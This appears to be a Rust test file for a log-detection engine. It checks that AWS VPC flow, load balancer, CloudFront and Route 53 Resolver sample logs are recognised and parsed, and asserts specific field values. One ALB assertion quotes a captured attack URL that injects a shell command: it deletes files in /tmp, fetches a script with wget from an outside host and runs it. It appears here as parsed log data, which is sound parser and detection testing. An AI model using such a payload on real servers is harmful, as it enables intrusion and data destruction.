//! The text readers over real AWS log samples from `shared/data` (skipped with a notice when the
//! folder is absent): every VPC flow, load balancer and CloudFront file of the Elastic fixtures and
//! of aws-log-parser's test data is recognised and read with no bad line, except the fixture that
//! is broken on purpose; a few values are checked by hand.

use std::io::Read;
use std::path::{Path, PathBuf};

use serde_json::Value;
use sigil_engine::RecordSource;
use sigil_engine::formats::{BadLine, LineError, TextFormat, TextReader, detect, text_records};
use sigil_engine::framing::Origin;

fn shared_data() -> Option<PathBuf> {
    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/data"));
    if dir.is_dir() {
        Some(dir.to_path_buf())
    } else {
        eprintln!("skipped: {} is absent", dir.display());
        None
    }
}

/// A file's content, gunzipped when it is gzip.
fn content(path: &Path) -> Vec<u8> {
    let bytes = std::fs::read(path).unwrap();
    if !bytes.starts_with(&[0x1f, 0x8b]) {
        return bytes;
    }
    let mut plain = Vec::new();
    flate2::read::MultiGzDecoder::new(&bytes[..])
        .read_to_end(&mut plain)
        .unwrap();
    plain
}

/// What reading a file gave.
struct Read_ {
    records: Vec<(Value, RecordSource, u64)>,
    bad: Vec<BadLine>,
}

/// Reads `bytes` as `format`; every record must be valid JSON.
fn read(bytes: &[u8], format: TextFormat) -> Read_ {
    let mut reader = TextReader::new(format);
    let mut lines = text_records(bytes, Origin::START, &mut reader);
    let mut read = Read_ {
        records: Vec::new(),
        bad: Vec::new(),
    };
    while let Some(item) = lines.next_record() {
        match item {
            Ok(record) => {
                let value = serde_json::from_slice(record.json)
                    .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(record.json)));
                read.records.push((value, record.source, record.index));
            }
            Err(bad) => read.bad.push(bad),
        }
    }
    read
}

/// Reads every file of `dir` (sorted) whose name ends with one of `extensions`, but for those
/// named in `skip`, as detected; each must be detected, and read without a bad line. Prints
/// the counts per file.
fn read_dir(dir: &Path, extensions: &[&str], skip: &[&str]) -> Vec<(String, Read_)> {
    let mut paths: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|p| extensions.iter().any(|e| p.to_string_lossy().ends_with(e)))
        .filter(|p| !skip.iter().any(|name| p.ends_with(name)))
        .collect();
    paths.sort();
    paths
        .into_iter()
        .map(|path| {
            let bytes = content(&path);
            let format = detect(Some(&path), &bytes)
                .unwrap_or_else(|| panic!("{}: not detected", path.display()));
            let read = read(&bytes, format.clone());
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            println!("{name}: {format}, {} records", read.records.len());
            assert!(read.bad.is_empty(), "{name}: {:?}", read.bad);
            (name, read)
        })
        .collect()
}

/// The records of the file called `name`.
fn records<'r>(files: &'r [(String, Read_)], name: &str) -> &'r [(Value, RecordSource, u64)] {
    &files.iter().find(|(n, _)| n == name).unwrap().1.records
}

fn counts(files: &[(String, Read_)]) -> Vec<(&str, usize)> {
    files
        .iter()
        .map(|(name, read)| (name.as_str(), read.records.len()))
        .collect()
}

#[test]
fn elastic_vpc_flow_logs() {
    let Some(data) = shared_data() else { return };
    let dir = data.join("elastic-aws-fixtures/vpcflow");
    // The JSON-wrapped line is JSON (read by the JSON framing); the broken file is not text.
    let wrapped = content(&dir.join("test-with-message-field.log"));
    assert_eq!(detect(None, &wrapped), None);
    let broken = content(&dir.join("beats-bad.log"));
    assert_eq!(detect(None, &broken), None);
    let forced = read(&broken, TextFormat::VpcFlow(None));
    assert!(forced.records.is_empty());
    assert_eq!(forced.bad.len(), 1);
    assert_eq!(
        forced.bad[0].reason,
        LineError::UnknownVpcLayout { found: 4 }
    );
    println!("beats-bad.log forced as vpcflow: {}", forced.bad[0]);

    let files = read_dir(
        &dir,
        &[".log"],
        &["test-with-message-field.log", "beats-bad.log"],
    );
    assert_eq!(
        counts(&files),
        [
            ("beats-accept-reject-traffic.log", 4),
            ("beats-custom-nat-gateway.log", 2),
            ("beats-custom-transit-gateway.log", 1),
            ("beats-ipv6.log", 1),
            ("test-ecs-samples.log", 10),
            ("test-extra-samples.log", 7),
            ("test-tcp-flag-sequence.log", 3),
            ("test-tgw-samples.log", 10),
            ("test-v5-all-fields.log", 1),
            ("test-v8-samples.log", 1),
        ]
    );
    for (_, read) in &files {
        assert!(
            read.records
                .iter()
                .all(|(_, s, _)| *s == RecordSource::VpcFlow)
        );
    }

    let reject = &records(&files, "beats-accept-reject-traffic.log")[1].0;
    assert_eq!(reject["dstport"], 3389);
    assert_eq!(reject["action"], "REJECT");
    assert_eq!(reject["account-id"], "123456789010");
    assert_eq!(reject["timestamp"], "2014-12-14T04:06:50Z");

    let nat = records(&files, "beats-custom-nat-gateway.log");
    assert!(nat[0].0.get("instance-id").is_none());
    assert_eq!(nat[1].0["pkt-dstaddr"], "203.0.113.5");

    let ipv6 = &records(&files, "beats-ipv6.log")[0].0;
    assert_eq!(ipv6["srcaddr"], "2001:db8:1234:a100:8d6e:3477:df66:f105");

    let nodata = &records(&files, "test-extra-samples.log")[1].0;
    assert_eq!(nodata["log-status"], "NODATA");
    assert!(nodata.get("srcaddr").is_none() && nodata.get("action").is_none());
    assert_eq!(nodata["start"], 1431280876);

    // Header lines repeated before each record take no number.
    let repeated = records(&files, "test-tcp-flag-sequence.log");
    assert_eq!(repeated[0].0["tcp-flags"], 2);
    assert_eq!(repeated[0].0["bytes"], 568);
    assert_eq!(repeated.iter().map(|r| r.2).collect::<Vec<_>>(), [1, 2, 3]);
    assert_eq!(repeated[2].0["log-status"], "NODATA");

    let ecs = &records(&files, "test-ecs-samples.log")[0].0;
    assert_eq!(ecs["ecs-cluster-name"], "frontend-cluster");
    assert_eq!(ecs["ecs-task-id"], "6adbd0d6-211");
    assert_eq!(ecs["flow-direction"], "ingress");
    assert_eq!(
        records(&files, "test-v8-samples.log")[0].0["reject-reason"],
        "BPA"
    );

    let tgw = &records(&files, "test-tgw-samples.log")[0].0;
    assert_eq!(tgw["tgw-id"], "tgw-0a12bc34de56f7890");
    assert_eq!(tgw["dstaddr"], "2a02:cf40::");
    assert_eq!(tgw["log-status"], "SKIPDATA");

    let v5 = &records(&files, "test-v5-all-fields.log")[0].0;
    assert_eq!(v5["pkt-dst-aws-service"], "CLOUDFRONT");
    assert_eq!(v5["traffic-path"], 1);
    assert_eq!(v5["az-id"], "use1-az5");

    let example = &records(&files, "beats-custom-transit-gateway.log")[0].0;
    assert_eq!(example["type"], "IPv4");
    assert_eq!(example["tcp-flags"], 3);
    assert_eq!(example["action"], "ACCEPT");
}

#[test]
fn elastic_load_balancer_logs() {
    let Some(data) = shared_data() else { return };
    let files = read_dir(&data.join("elastic-aws-fixtures/elb_logs"), &[".log"], &[]);
    assert_eq!(
        counts(&files),
        [
            ("beats-application-lb-http.log", 10),
            ("beats-elb-http.log", 5),
            ("beats-elb-tcp.log", 6),
            ("beats-example-https.log", 1),
            ("beats-example-nlb-tcp.log", 1),
            ("beats-example-ssl.log", 1),
            ("test-alb.log", 10),
        ]
    );
    let sources = |name| {
        records(&files, name)
            .iter()
            .map(|r| r.1)
            .collect::<Vec<_>>()
    };
    use RecordSource::{Alb, Elb, Nlb};
    assert_eq!(sources("beats-elb-tcp.log"), [Elb; 6]);
    assert_eq!(sources("beats-example-nlb-tcp.log"), [Nlb]);
    assert_eq!(
        sources("test-alb.log"),
        [Alb, Alb, Nlb, Nlb, Nlb, Nlb, Alb, Alb, Alb, Alb]
    );

    let alb = records(&files, "test-alb.log");
    assert_eq!(alb[0].0["target:port_list"], "10.0.0.1:80");
    assert_eq!(alb[0].0["actions_executed"], "forward,redirect");
    let space = &alb[1].0;
    assert_eq!(
        space["request_url"],
        "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    );
    assert_eq!(space["request_method"], "GET");
    assert_eq!(space["target_processing_time"], -1);
    assert_eq!(space["classification_reason"], "SpaceInUri");
    assert!(space.get("target_ip").is_none());
    assert_eq!(
        alb[3].0["alpn_client_preference_list"],
        r#""h2","http/1.1""#
    );
    assert_eq!(alb[4].0["alpn_client_preference_list"], r#"\"http/1.1\""#);
    assert_eq!(alb[5].0["timestamp"], "2024-10-25T17:33:59Z");
    assert!(alb[5].0.get("tls_cipher").is_none());
    // ALB connection log lines.
    assert_eq!(alb[6].0["tls_handshake_latency"], 4.036);
    assert_eq!(alb[7].0["tls_verify_status"], "Failed:ClientCertUntrusted");
    assert_eq!(alb[8].0["conn_trace_id"], "TID_16132ed0b4112148");
    // A health check: no method, no protocol.
    let health = &alb[9].0;
    assert!(health.get("request_method").is_none() && health.get("request_protocol").is_none());
    assert_eq!(
        health["request_url"],
        "http://internal-service-alb.example.com:80-/"
    );
    assert_eq!(
        health["conn_trace_id"],
        "TID_00000000000000000000000000000000"
    );

    let blocked = &records(&files, "beats-application-lb-http.log")[1].0;
    assert_eq!(blocked["elb_status_code"], 504);
    assert!(blocked.get("target_status_code").is_none());
    assert_eq!(blocked["client_port"], 56488);

    let tcp = &records(&files, "beats-elb-tcp.log")[0].0;
    assert!(tcp.get("request_method").is_none() && tcp.get("user_agent").is_none());
    assert_eq!(tcp["backend_ip"], "10.0.0.47");
    let nlb = &records(&files, "beats-example-nlb-tcp.log")[0].0;
    assert_eq!(nlb["version"], "1.0");
    assert_eq!(nlb["client_ip"], "89.160.20.112");
    assert!(nlb.get("alpn_fe_protocol").is_none());
}

#[test]
fn elastic_cloudfront_logs() {
    let Some(data) = shared_data() else { return };
    let files = read_dir(
        &data.join("elastic-aws-fixtures/cloudfront_logs"),
        &[".log"],
        &[],
    );
    assert_eq!(counts(&files), [("test-cloudfront.log", 12)]);
    let lines = records(&files, "test-cloudfront.log");
    assert!(lines.iter().all(|r| r.1 == RecordSource::CloudFront));
    assert_eq!(lines[0].2, 1, "header lines are not numbered");
    let first = &lines[0].0;
    assert_eq!(
        first["cs(User-Agent)"],
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
         Chrome/78.0.3904.108 Safari/537.36"
    );
    assert_eq!(first["sc-bytes"], 392);
    assert_eq!(first["time-taken"], 0.001);
    assert_eq!(first["timestamp"], "2019-12-04T21:02:31Z");
    assert_eq!(lines[1].0["c-ip"], "2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6");
    assert_eq!(lines[7].0["sc-status"], 0); // `000`
    assert_eq!(lines[9].0["x-forwarded-for"], "81.2.69.142, 216.160.83.56");
    // The last line has 31 of the 33 fields.
    let short = &lines[11].0;
    assert_eq!(short["cs-uri-stem"], "/en(test)");
    assert_eq!(short["sc-content-type"], "text/html");
    assert!(short.get("sc-content-len").is_none() && short.get("sc-range-end").is_none());
}

#[test]
fn aws_log_parser_samples() {
    let Some(data) = shared_data() else { return };
    let dir = data.join("aws-log-parser-samples");
    let alb = read_dir(&dir.join("alb"), &[".log", ".log.gz"], &[]);
    assert_eq!(alb.len(), 13);
    assert!(
        alb.iter()
            .all(|(_, read)| read.records.len() == 1 && read.records[0].1 == RecordSource::Alb)
    );
    let lambda = &records(&alb, "loadbalancer_lambda_failed_entry.log")[0].0;
    assert_eq!(lambda["error_reason"], "LambdaInvalidResponse");
    let auth = &records(&alb, "loadbalancer_http2_entry_auth_error.log")[0].0;
    assert_eq!(auth["matched_rule_priority"], -1);
    assert_eq!(
        auth["conn_trace_id"],
        "TID_b33932fc40603344b9a76c1b94b208fd"
    );
    let query = &records(&alb, "loadbalancer_http_entry.log")[0].0;
    assert_eq!(
        query["request_url"],
        "http://www.example.com:80/?a=b&c=d&zip=98101"
    );
    let wss = &records(&alb, "loadbalancer_secured_websockets_entry.log")[0].0;
    assert_eq!(
        (wss["type"].as_str(), wss["elb_status_code"].as_u64()),
        (Some("wss"), Some(101))
    );
    assert_eq!(
        records(&alb, "loadbalancer_http2_entry.log.gz")[0].0,
        records(&alb, "loadbalancer_http2_entry.log")[0].0
    );

    let clb = read_dir(&dir.join("clb"), &[".log"], &[]);
    let classic = records(&clb, "classic_loadbalancer_http_entry.log");
    assert_eq!(classic.len(), 1);
    assert_eq!(classic[0].1, RecordSource::Elb);
    assert_eq!(classic[0].0["ssl_cipher"], "DHE-RSA-AES128-SHA");

    let cloudfront = read_dir(&dir.join("cloudfront"), &[".log", ".log.gz"], &[]);
    assert_eq!(
        counts(&cloudfront),
        [
            ("cloudfront-multiple.log", 6),
            ("cloudfront-multiple.log.gz", 6),
            ("cloudfront_entry.log", 1),
            ("cloudfront_entry2.log", 1),
            ("cloudfront_entry_broken_cookie.log", 1),
            ("cloudfront_entry_cookie_with_encoding.log", 1),
        ]
    );
    // Without `#Fields`: the documented order, 24 fields present.
    let entry = &records(&cloudfront, "cloudfront_entry2.log")[0].0;
    assert_eq!(entry["cs-uri-query"], "a=b&c=d");
    assert_eq!(entry["cs(Cookie)"], "zip=98101");
    assert_eq!(entry["sc-bytes"], 2390282);
    assert_eq!(entry["cs-protocol-version"], "HTTP/1.1");
    assert!(entry.get("fle-status").is_none());
    assert_eq!(
        records(&cloudfront, "cloudfront_entry_cookie_with_encoding.log")[0].0["cs(Cookie)"],
        "this zip=98101"
    );
    assert_eq!(
        records(&cloudfront, "cloudfront_entry_broken_cookie.log")[0].0["cs(Cookie)"],
        "zip 98101"
    );
}

/// The titles of the matches of `rules` (YAML documents) over `inputs`, by a whole hunt.
fn hunt_titles(rules: &str, inputs: &[PathBuf]) -> Vec<String> {
    use sigil_engine::{Engine, ScanOptions};
    let loaded = sigil_compiler::load_str("rules.yml".as_ref(), rules, &Default::default());
    assert!(loaded.diagnostics.iter().all(|d| !d.is_error()));
    let engine = Engine::new(loaded.rules, ScanOptions::default());
    let (matches, _) = crate::support::hunt_matches(&engine, inputs);
    matches
        .iter()
        .map(|m| m["rule"]["title"].as_str().unwrap().to_owned())
        .collect()
}

/// Issue 18, item 15: a Route 53 Resolver query log has a `srcaddr`, and was taken for a VPC
/// flow log; it is a log source of its own.
#[test]
fn route53_resolver_queries_are_not_vpc_flows() {
    let Some(data) = shared_data() else { return };
    let rules = "title: flow\nlogsource: {product: aws, service: vpcflow}\ndetection:\n  \
                 sel: {srcaddr|cidr: 0.0.0.0/0}\n  condition: sel\n---\n\
                 title: dns\nlogsource: {product: aws, service: route53}\ndetection:\n  \
                 sel: {query_type: AAAA, rcode: NXDOMAIN}\n  condition: sel\n";
    let titles = hunt_titles(
        rules,
        &[data.join("elastic-aws-fixtures/route53_resolver_logs")],
    );
    assert!(!titles.is_empty());
    assert!(titles.iter().all(|t| t == "dns"), "{titles:?}");
}
